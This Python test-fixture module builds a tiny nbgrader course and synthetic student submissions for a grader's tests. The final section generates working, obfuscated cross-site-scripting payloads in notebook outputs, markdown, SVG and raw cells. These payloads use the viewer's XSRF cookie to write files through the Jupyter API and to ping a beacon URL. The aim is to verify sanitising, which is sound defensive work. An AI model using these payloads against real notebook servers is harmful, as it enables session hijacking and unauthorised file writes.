"""A tiny nbgrader course and synthetic submissions, for the grading tests and benchmark.

``make_course(root)`` writes a course directory (this repository's ``nbgrader_config.py``, one
exercise ``tiny`` with two graded functions, its folder ``exercises/tiny/`` with its hidden checks)
and generates it; ``write_submission(root, student, kind)`` writes one student's submission of a
given kind: correct, wrong, or one of the broken ones in :data:`KINDS`.
"""

from __future__ import annotations

import base64
import shutil
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from grader.engine.verdict import grade_id

ASSIGNMENT = "tiny"
CONFIG = Path(__file__).with_name("nbgrader_config.py")

ADD_SOLUTION = "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION\n"
MUL_SOLUTION = "def mul(a, b):\n    ### BEGIN SOLUTION\n    return a * b\n    ### END SOLUTION\n"
ADD_TEST = "assert add(1, 2) == 3, 'add(1, 2) should be 3'\n"
MUL_TEST = "assert mul(2, 3) == 6, 'mul(2, 3) should be 6'\n"
#: Points of each graded function of the tiny assignment.
POINTS = {"add": 2, "mul": 1}

#: The tiny exercise's folder, as ``grader/exercises/<id>/`` holds a real one: its text (only the
#: graded functions and their points matter to the grader) and its checks, with its own references.
EXERCISE_TEXT = """---
jupytext:
  text_representation:
    extension: .md
    format_name: myst
kernelspec:
  display_name: Python 3
  language: python
  name: python3
---

# A tiny assignment

```{code-cell} ipython3
---
grade: add
points: 2
---
```

```{code-cell} ipython3
---
grade: mul
points: 1
---
```
"""
EXERCISE_CHECKS = '''"""Hidden checks of the tiny assignment (its references live here, not in solutions/)."""

from grader.engine.cases import Case, Spec, call
from grader.engine.mistakes import Mistake


def add(a, b):
    return a + b


def mul(a, b):
    return a * b


REFERENCES = {"add": add, "mul": mul}


def add_cases(rng):
    a, b = (int(v) for v in rng.integers(1, 50, size=2))
    return [Case("two positive numbers", call(a, b)), Case("a negative first number", call(-a, b))]


def mul_cases(rng):
    a, b = (int(v) for v in rng.integers(2, 50, size=2))
    return [Case("two positive numbers", call(a, b)), Case("a zero first number", call(0, b))]


SPECS = {"add": Spec(add_cases), "mul": Spec(mul_cases)}
MISTAKES = [
    Mistake("add-subtracts", "add", "your add subtracts instead of adding", replace=(("a + b", "a - b"),)),
    Mistake("mul-adds", "mul", "your mul adds instead of multiplying", replace=(("a * b", "a + b"),)),
]
'''


def _meta(grade_id: str, *, solution: bool = False, points: int | None = None) -> dict:
    nbg = {"grade_id": grade_id, "locked": not solution, "solution": solution,
           "grade": points is not None, "schema_version": 3}
    if points is not None:
        nbg["points"] = points
    return {"nbgrader": nbg}


def source_notebook() -> nbformat.NotebookNode:
    nb = new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.cells = [
        new_markdown_cell("# A tiny assignment\nWrite `add` and `mul`."),
        new_code_cell(ADD_SOLUTION, metadata=_meta("add", solution=True)),
        new_code_cell(ADD_TEST, metadata=_meta(grade_id("add"), points=POINTS["add"])),
        new_code_cell(MUL_SOLUTION, metadata=_meta("mul", solution=True)),
        new_code_cell(MUL_TEST, metadata=_meta(grade_id("mul"), points=POINTS["mul"])),
    ]
    return nb


def make_course(root: Path, timeout: int | None = None) -> Path:
    """Write a course at ``root`` with the assignment ``tiny`` generated (source, release, gradebook)."""
    from grader.coursedir import open_api

    root = Path(root)
    (root / "source" / ASSIGNMENT).mkdir(parents=True, exist_ok=True)
    config = CONFIG.read_text()
    if timeout is not None:
        config += f"\nc.Execute.timeout = {timeout}\n"
    (root / "nbgrader_config.py").write_text(config)
    folder = root / "exercises" / ASSIGNMENT
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "exercise.md").write_text(EXERCISE_TEXT)
    (folder / "checks.py").write_text(EXERCISE_CHECKS)
    nbformat.write(source_notebook(), root / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    result = open_api(root).generate_assignment(ASSIGNMENT, force=True, create=True)
    if not result["success"]:
        raise RuntimeError(result.get("log"))
    return root


#: Kinds of synthetic submission -> (points expected, what goes wrong)
KINDS = {
    "correct": (3, "solves both functions"),
    "wrong": (1, "add subtracts (hidden test fails with a named mistake); mul is right"),
    "half": (2, "add is right, mul is wrong"),
    "unsolved": (0, "the untouched release"),
    "invalid_json": (0, "the file is not JSON"),
    "renamed": (0, "correct, but saved in submitted/ under another name (`import` would rename it)"),
    "missing": (0, "an empty submission folder"),
    "deleted_tests": (3, "correct, but the test cells were deleted"),
    "edited_tests": (1, "wrong add, and the student rewrote its test cell to pass"),
    "reordered_tests": (3, "the test cells were moved before the solutions (grade cells do not run: the "
                           "hidden checks call the functions after every cell ran)"),
    "infinite_loop": (1, "add loops forever (its hidden check times out); mul is right"),
    "memory_hog": (1, "add allocates 2.5 TiB (MemoryError in its hidden check); mul is right"),
    "huge_output": (3, "correct, but prints 100 MB"),
}


def submission_notebook(root: Path, kind: str) -> nbformat.NotebookNode:
    """The student's notebook for ``kind`` (built from the release of the course at ``root``)."""
    nb = nbformat.read(Path(root) / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    cells = {c.metadata.get("nbgrader", {}).get("grade_id"): c for c in nb.cells}
    if kind == "unsolved":
        return nb
    add = "def add(a, b):\n    return a + b\n"
    mul = "def mul(a, b):\n    return a * b\n"
    if kind in ("wrong", "edited_tests"):
        add = "def add(a, b):\n    return a - b if a < 0 else a + b\n"
    elif kind == "half":
        mul = "def mul(a, b):\n    return a + b if a == 0 else a * b\n"
    elif kind == "infinite_loop":
        add = "def add(a, b):\n    while True:\n        pass\n"
    elif kind == "memory_hog":
        # 256 MiB at a time, 2.5 TiB in all: fails at once under the kernel memory limit; without
        # it, the untouched (calloc'ed) pages would all "succeed" and the test would pass.
        add = (
            "import numpy as np\n\n"
            "def add(a, b):\n"
            "    blobs = [np.zeros(2**25) for _ in range(10_000)]\n"
            "    return a + b\n"
        )
    elif kind == "huge_output":
        add = "print('x' * 100_000_000)\n\ndef add(a, b):\n    return a + b\n"
    cells["add"].source = add
    cells["mul"].source = mul
    if kind == "deleted_tests":
        nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")]
    elif kind == "edited_tests":
        cells[grade_id("add")].source = "assert True\n"
    elif kind == "reordered_tests":
        tests = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")]
        others = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")]
        nb.cells = tests + others
    return nb


def write_submission(root: Path, student: str, kind: str, folder: Path | None = None) -> Path:
    """Write ``student``'s submission of ``kind``: under ``submitted/`` of the course at ``root``, or
    as ``folder/<student>.ipynb`` (a folder of student notebooks to import) when ``folder`` is given.
    Returns the path written (the folder, for ``missing``)."""
    root = Path(root)
    if folder is not None:
        target = Path(folder) / f"{student}.ipynb"
    else:
        name = "my_work.ipynb" if kind == "renamed" else f"{ASSIGNMENT}.ipynb"
        target = root / "submitted" / student / ASSIGNMENT / name
    if target.parent.exists() and folder is None:
        shutil.rmtree(target.parent)
    target.parent.mkdir(parents=True, exist_ok=True)
    if kind == "missing":
        return target.parent
    if kind == "invalid_json":
        target.write_text('{"cells": [ this is not json')
    else:
        nbformat.write(submission_notebook(root, kind), target)
    return target


def strip_solution_markers(source: str) -> str:
    """An instructor solution region as a student would have written it (markers removed)."""
    return "\n".join(
        line for line in source.splitlines() if line.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION")
    ) + "\n"


def filled_release(course: Path, assignment: str, answers: dict[str, str] | None = None) -> nbformat.NotebookNode:
    """The release notebook of ``assignment`` with every answer cell solved as in ``source/`` (the
    correct submission), except the cells named in ``answers`` (grade id -> code), written as given."""
    course = Path(course)
    src = nbformat.read(course / "source" / assignment / f"{assignment}.ipynb", as_version=4)
    nb = nbformat.read(course / "release" / assignment / f"{assignment}.ipynb", as_version=4)
    solved = {
        c.metadata["nbgrader"]["grade_id"]: strip_solution_markers(c.source)
        for c in src.cells
        if c.metadata.get("nbgrader", {}).get("solution")
    }
    solved.update(answers or {})
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in solved and cell.metadata["nbgrader"].get("solution"):
            cell.source = solved[grade_id]
    return nb


# --- a submission whose outputs and markdown try to run a script wherever they are rendered ---------------
def as_js_expression(js: str) -> str:
    """``js`` as one expression without quotes or spaces: it fits in any attribute, URL or script."""
    return "eval(String.fromCharCode(" + ",".join(str(ord(ch)) for ch in js) + "))"


def payload(vector: str, beacon: str = "") -> str:
    """The script a hostile submission tries to run: it records ``vector`` in ``window.PWNED``, writes
    ``pwned-<vector>.txt`` through the Jupyter contents API with the viewer's session, calls ``beacon``
    (a URL a test listens on) and opens a dialog. Whoever renders the notebook must see none of it."""
    body = ("{method:'PUT',headers:{'Content-Type':'application/json','X-XSRFToken':m?decodeURIComponent(m[1]):''},"
            "body:JSON.stringify({type:'file',format:'text',content:'written by a submission'})}")
    return (f"window.PWNED=(window.PWNED||[]).concat(['{vector}']);var m=document.cookie.match(/_xsrf=([^;]+)/);"
            f"fetch('/api/contents/pwned-{vector}.txt',{body}).catch(function(){{}});"
            + (f"fetch('{beacon}{vector}',{{mode:'no-cors'}}).catch(function(){{}});" if beacon else "")
            + f"alert('{vector}');")


#: Every way tried, where a script runs as the page loads (the rest need a click on "click me").
AUTO_VECTORS = ("html-script", "html-onerror", "html-iframe", "html-ontoggle", "svg-onload", "svg-script",
                "markdown-output", "javascript-output", "image-width", "md-onerror", "md-script", "md-iframe",
                "md-ontoggle", "md-mermaid", "raw-onerror")
CLICK_VECTORS = ("html-link", "md-link", "latex-href")


def hostile_output_code(beacon: str = "") -> str:
    """A code cell whose outputs (made by the student's kernel) try every way of running a script or
    loading something where they are rendered: HTML, markdown, JavaScript and LaTeX outputs, image metadata."""
    run = {v: as_js_expression(payload(v, beacon)) for v in AUTO_VECTORS + CLICK_VECTORS}
    html = [f"<script>{run['html-script']}</script>", f"<img src=x onerror={run['html-onerror']}>",
            f"<iframe src=javascript:{run['html-iframe']}></iframe>",
            f"<details open ontoggle={run['html-ontoggle']}><summary>s</summary></details>",
            f"<a href=javascript:{run['html-link']}>click me</a>", _remote_html(beacon)]
    image = {"image/png": base64.b64encode(TINY_PNG).decode(), "text/plain": "an image"}
    image_meta = {"image/png": {"width": f"1 onload={run['image-width']}"}}
    latex = {"text/latex": "$\\href{javascript:" + run["latex-href"] + "}{click me}$", "text/plain": "latex"}
    return "\n".join([
        "from IPython.display import HTML, Javascript, Markdown, display",
        *(f"display(HTML({h!r}))" for h in html),
        f"display(Markdown({'<img src=x onerror=' + run['markdown-output'] + '>'!r}))",
        f"display(Javascript({payload('javascript-output', beacon)!r}))",
        f"display({image!r}, raw=True, metadata={image_meta!r})",
        f"display({latex!r}, raw=True)",
    ]) + "\n"


def hostile_svg_code(beacon: str = "") -> str:
    """A code cell whose SVG output has a script and an ``onload`` handler."""
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" '
           f'onload="{as_js_expression(payload("svg-onload", beacon))}">'
           f'<script>{as_js_expression(payload("svg-script", beacon))}</script>'
           '<circle cx="20" cy="20" r="15" fill="teal"/></svg>')
    return f"from IPython.display import SVG, display\ndisplay(SVG({svg!r}))\n"


def _remote_html(beacon: str) -> str:
    return (f'<img src="{beacon}remote-image"><link rel="stylesheet" href="{beacon}remote-css">'
            f'<div style="background-image:url({beacon}remote-style)">styled</div>'
            f'<form action="{beacon}form"><input type="submit" value="send"></form>')


def hostile_markdown(beacon: str = "") -> str:
    """A markdown cell that tries the same with raw HTML, links, a remote image and a mermaid block."""
    run = {v: as_js_expression(payload(v, beacon)) for v in AUTO_VECTORS + CLICK_VECTORS}
    return (f"A hostile cell <img src=x onerror={run['md-onerror']}> <script>{run['md-script']}</script>\n\n"
            f"[click me](javascript:{run['md-link']}) ![remote]({beacon}md-remote-image)\n\n"
            f"<iframe src=\"javascript:{run['md-iframe']}\"></iframe>\n\n"
            f"<details open ontoggle={run['md-ontoggle']}><summary>more</summary>text</details>\n\n"
            f"```mermaid\n</pre><img src=x onerror={run['md-mermaid']}>\n```\n")


def hostile_raw_cell() -> nbformat.NotebookNode:
    """A raw cell that nbconvert would paste into an HTML page as it is."""
    cell = nbformat.v4.new_raw_cell(f"<img src=x onerror={as_js_expression(payload('raw-onerror'))}>")
    cell.metadata["raw_mimetype"] = "text/html"
    return cell


#: A 2x2 PNG (red, green / blue, white), for outputs that must still render after sanitising.
TINY_PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000002000000020802000000fdd49a73000000164944415478da63f8cfc0c0d0c0c0c8c0"
    "f0ffff7f06001a7f047ed0b295e00000000049454e44ae426082"
)
#: What pandas' ``DataFrame._repr_html_`` writes for a 2 x 2 frame (pandas 2), as a student's output.
PANDAS_TABLE = """<div>
<style scoped>
    .dataframe tbody tr th:only-of-type {
        vertical-align: middle;
    }

    .dataframe tbody tr th {
        vertical-align: top;
    }

    .dataframe thead th {
        text-align: right;
    }
</style>
<table border="1" class="dataframe">
  <thead>
    <tr style="text-align: right;">
      <th></th>
      <th>d_k</th>
      <th>std of scores</th>
    </tr>
  </thead>
  <tbody>
    <tr>
      <th>0</th>
      <td>16</td>
      <td>4.02</td>
    </tr>
    <tr>
      <th>1</th>
      <td>64</td>
      <td>7.97</td>
    </tr>
  </tbody>
</table>
</div>"""
#: Ordinary outputs that must survive sanitising: a pandas table, a matplotlib plot, an SVG figure.
ORDINARY_OUTPUTS_CODE = (
    "from IPython.display import HTML, SVG, display\n"
    f"display(HTML({PANDAS_TABLE!r}))\n"
    "import matplotlib\nmatplotlib.use('module://matplotlib_inline.backend_inline')\n"
    "import matplotlib.pyplot as plt\n"
    "plt.figure(figsize=(2, 1.5))\nplt.plot([0, 1, 4, 9])\nplt.show()\n"
    "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"60\" height=\"30\">"
    "<rect width=\"60\" height=\"30\" fill=\"teal\"/></svg>'))\n"
)
#: An ordinary markdown cell with formulas and a link.
ORDINARY_MARKDOWN = ("Scores grow like $\\sqrt{d_k}$, so we divide by it:\n\n"
                     "$$\\mathrm{softmax}(x)_i = \\frac{e^{x_i}}{\\sum_j e^{x_j}}$$\n\n"
                     "See [the paper](https://arxiv.org/abs/1706.03762).\n")


def with_hostile_renderables(nb: nbformat.NotebookNode, beacon: str = "") -> nbformat.NotebookNode:
    """``nb`` with the hostile cells and the ordinary ones appended (and widget state that would load a
    script from a CDN in its metadata)."""
    nb.cells += [new_markdown_cell(ORDINARY_MARKDOWN), new_code_cell(ORDINARY_OUTPUTS_CODE),
                 new_code_cell(hostile_output_code(beacon)), new_code_cell(hostile_svg_code(beacon)),
                 new_markdown_cell(hostile_markdown(beacon)), hostile_raw_cell()]
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2,
                                                                            "version_minor": 0}}
    return nb
